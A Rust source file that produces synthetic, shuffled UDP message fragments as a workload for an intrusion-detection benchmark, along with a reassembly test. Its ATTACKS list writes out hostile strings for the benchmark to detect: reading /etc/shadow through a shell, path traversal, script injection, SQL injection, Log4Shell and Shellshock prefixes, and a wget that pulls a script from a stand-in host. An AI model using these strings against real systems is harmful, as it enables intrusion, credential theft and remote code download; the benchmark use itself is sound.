//! Messages in fragments: the traffic of `apps/intruder`, as the third paper's Table 1 describes
//! it.
//!
//! So many flows send messages of up to 128 random letters, each broken into at most four fragments
//! in UDP packets to port 7000; one message of ten has an attack in it. Fragments are shuffled
//! within a sliding window of 16. The same numbers give the same packets on every machine.
//!
//! A fragment, before its bytes: flow (32 bits), number of the message (16), number of the fragment
//! from 0, number of fragments, place of its first byte in the message, length of the message (8
//! bits each).

use super::frame::Headers;
use super::{Random, START};
use crate::io::Timestamp;
use std::collections::VecDeque;
use std::net::Ipv4Addr;

/// What attacks look like: those that `Intruder` knows.
pub const ATTACKS: [&str; 8] = [
    "/bin/sh -c 'cat /etc/shadow'",
    "../../../../etc/passwd",
    "<script>document.cookie",
    "' OR '1'='1' --",
    "cmd.exe /c ping",
    "wget http://198.51.100.6/x.sh",
    "${jndi:ldap://",
    "() { :; }; echo",
];

const LONGEST: u64 = 128;
const WINDOW: usize = 16;
const PORT: u16 = 7000;
const MOST: u32 = 1 << 20;

/// The fragments of so many flows; endless.
pub struct Messages {
    random: Random,
    /// The number of each flow's next message.
    next: Vec<u16>,
    /// Fragments that are still to come, in their order, and those of them that are next in any
    /// order.
    coming: VecDeque<(u32, Vec<u8>)>,
    window: Vec<(u32, Vec<u8>)>,
    micros: u64,
    id: u16,
}

impl Messages {
    /// So many flows, 1,048,576 at most.
    pub fn new(seed: u64, flows: u32) -> Self {
        let next = vec![0; flows.clamp(1, MOST) as usize];
        Self { random: Random(seed), next, coming: VecDeque::new(), window: Vec::new(), micros: 0, id: 0 }
    }

    fn text(&mut self) -> Vec<u8> {
        let length = self.random.within(32, LONGEST + 1) as usize;
        let mut text: Vec<u8> = (0..length).map(|_| b'a' + self.random.within(0, 26) as u8).collect();
        if self.random.chance(100) {
            let attack = ATTACKS[self.random.within(0, ATTACKS.len() as u64) as usize].as_bytes();
            let at = self.random.within(0, (length - attack.len() + 1) as u64) as usize;
            text[at..at + attack.len()].copy_from_slice(attack);
        }
        text
    }

    /// Breaks a flow's next message into fragments.
    fn speak(&mut self) {
        let flow = self.random.within(0, self.next.len() as u64) as u32;
        let (message, text) = (self.next[flow as usize], self.text());
        self.next[flow as usize] = message.wrapping_add(1);
        let count = self.random.within(1, 5) as usize;
        let mut cuts: Vec<usize> = (1..count).map(|_| self.random.within(1, text.len() as u64) as usize).collect();
        cuts.extend([0, text.len()]);
        cuts.sort_unstable();
        cuts.dedup();
        for (number, cut) in cuts.windows(2).enumerate() {
            let mut fragment = [&flow.to_be_bytes()[..], &message.to_be_bytes()].concat();
            fragment.extend([number as u8, (cuts.len() - 1) as u8, cut[0] as u8, text.len() as u8]);
            fragment.extend(&text[cut[0]..cut[1]]);
            self.coming.push_back((flow, fragment));
        }
    }
}

impl Iterator for Messages {
    type Item = (Timestamp, Vec<u8>);

    fn next(&mut self) -> Option<Self::Item> {
        while self.window.len() < WINDOW {
            while self.coming.is_empty() {
                self.speak();
            }
            self.window.extend(self.coming.pop_front());
        }
        let at = self.random.within(0, WINDOW as u64) as usize;
        let (flow, fragment) = self.window.swap_remove(at);
        self.micros += self.random.within(1, 20);
        self.id = self.id.wrapping_add(1);
        let (from, to) = (Ipv4Addr::from(10 << 24 | (flow + 2)), Ipv4Addr::new(192, 0, 2, 1));
        let headers = Headers { ether: [[2, 0, 0, 0, 0, 7], [2, 0, 0, 0, 0, 8]], from: (from, 5000), to: (to, PORT), id: self.id };
        let time = Timestamp::from_micros(START + (self.micros / 1_000_000) as i64, (self.micros % 1_000_000) as u32);
        Some((time, headers.udp(&fragment)))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::HashMap;

    #[test]
    fn fragments_make_whole_messages_and_one_of_ten_has_an_attack() {
        let mut parts: HashMap<Vec<u8>, (Vec<u8>, usize)> = HashMap::new();
        let (mut whole, mut attacks, mut shuffled) = (0, 0, 0);
        let mut last = None;
        for (_, frame) in Messages::new(1, 256).take(20_000) {
            let end = 14 + usize::from(u16::from_be_bytes([frame[16], frame[17]]));
            let (header, bytes) = frame[42..end].split_at(10);
            let (number, place, length) = (header[6], usize::from(header[8]), usize::from(header[9]));
            let (message, there) = parts.entry(header[..6].to_vec()).or_insert_with(|| (vec![0; length], 0));
            shuffled +=
                usize::from(last.replace((header[..6].to_vec(), number)).is_some_and(|last| last.0 == header[..6] && last.1 > number));
            message[place..place + bytes.len()].copy_from_slice(bytes);
            *there += bytes.len();
            if *there == length {
                let text = String::from_utf8_lossy(message);
                whole += 1;
                attacks += usize::from(ATTACKS.iter().any(|attack| text.contains(attack)));
            }
        }
        assert!(whole > 5000 && (8..=12).contains(&(attacks * 100 / whole)), "{attacks} of {whole}");
        assert!(shuffled > 100);
    }
}
